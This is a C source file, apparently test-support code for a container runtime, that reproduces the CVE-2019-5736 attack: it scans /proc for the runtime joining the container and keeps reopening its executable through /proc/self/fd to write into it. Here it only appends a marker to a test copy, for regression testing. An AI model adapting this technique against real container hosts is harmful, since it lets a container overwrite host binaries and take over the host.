/* The CVE-2019-5736 attack, as a container's own program would run it (built static by
 * tests/support/exe_attack.py). Harmless: it appends a marker to whatever host executable it
 * reaches, which the tests make a copy of the interpreter only the runtime under test uses.
 *
 *   attack scan SECONDS LOG MARKER
 *       Spin over /proc for processes whose executable is not a file of this container
 *       (the runtime joining it, before its execve), open /proc/PID/exe with O_PATH, and keep
 *       reopening each through /proc/self/fd/N for writing to append MARKER.
 *   attack write FD SECONDS LOG MARKER [bg]
 *       Keep reopening /proc/self/fd/FD (an executable the caller opened, see lib.c) for
 *       writing to append MARKER; "bg": in a child, so that the exec that started us ends.
 *
 * LOG ("-": stdout) gets "caught PID", the errno of every failed write attempt that differs
 * from the last, "WROTE" on success and "done caught=N" when time is up. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_CAUGHT 64

static FILE *logf;
static int fds[MAX_CAUGHT], caught, last_errno;

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

static void say(const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	vfprintf(logf, fmt, ap);
	va_end(ap);
	fflush(logf);
}

/* An executable this container does not have: its path does not lead to the same file here. */
static int foreign(const char *link, int fd)
{
	char target[4096];
	struct stat here, there;
	ssize_t n = readlink(link, target, sizeof target - 1);
	if (n < 0 || fstat(fd, &there) < 0)
		return 0;
	target[n] = 0;
	if (stat(target, &here) < 0)
		return 1;
	return here.st_dev != there.st_dev || here.st_ino != there.st_ino;
}

static int known(int fd)
{
	struct stat a, b;
	fstat(fd, &a);
	for (int i = 0; i < caught; i++)
		if (fstat(fds[i], &b) == 0 && a.st_dev == b.st_dev && a.st_ino == b.st_ino)
			return 1;
	return 0;
}

static void scan(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	while (d && (e = readdir(d)) && caught < MAX_CAUGHT) {
		int pid = atoi(e->d_name);
		if (pid <= 0 || pid == getpid())
			continue;
		char link[64];
		snprintf(link, sizeof link, "/proc/%d/exe", pid);
		int fd = open(link, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (!foreign(link, fd) || known(fd)) {
			close(fd);
			continue;
		}
		fds[caught++] = fd;
		char target[4096];
		ssize_t n = readlink(link, target, sizeof target - 1);
		target[n < 0 ? 0 : n] = 0;
		say("caught %d %s\n", pid, target);
	}
	if (d)
		closedir(d);
}

/* 1 once MARKER is appended through fd. */
static int try_write(int fd, const char *marker)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (w < 0) {
		if (errno != last_errno)
			say("write refused: %s\n", strerror(errno));
		last_errno = errno;
		return 0;
	}
	int ok = write(w, marker, strlen(marker)) == (ssize_t)strlen(marker);
	close(w);
	if (ok)
		say("WROTE\n");
	return ok;
}

int main(int argc, char **argv)
{
	if (argc < 5)
		return 2;
	int scanning = strcmp(argv[1], "scan") == 0;
	if (!scanning && (strcmp(argv[1], "write") != 0 || argc < 6))
		return 2;
	int a = scanning ? 2 : 3;
	double end = now() + atof(argv[a]);
	const char *log = argv[a + 1], *marker = argv[a + 2];
	logf = strcmp(log, "-") == 0 ? stdout : fopen(log, "a");
	if (!logf)
		return 3;
	if (!scanning) {
		fds[caught++] = atoi(argv[2]);
		say("caught self\n");
		if (argc > 6 && strcmp(argv[6], "bg") == 0 && fork() > 0)
			return 0;
	}
	while (now() < end) {
		if (scanning)
			scan();
		for (int i = 0; i < caught; i++)
			if (try_write(fds[i], marker))
				return 0;
	}
	say("done caught=%d\n", caught);
	return 0;
}
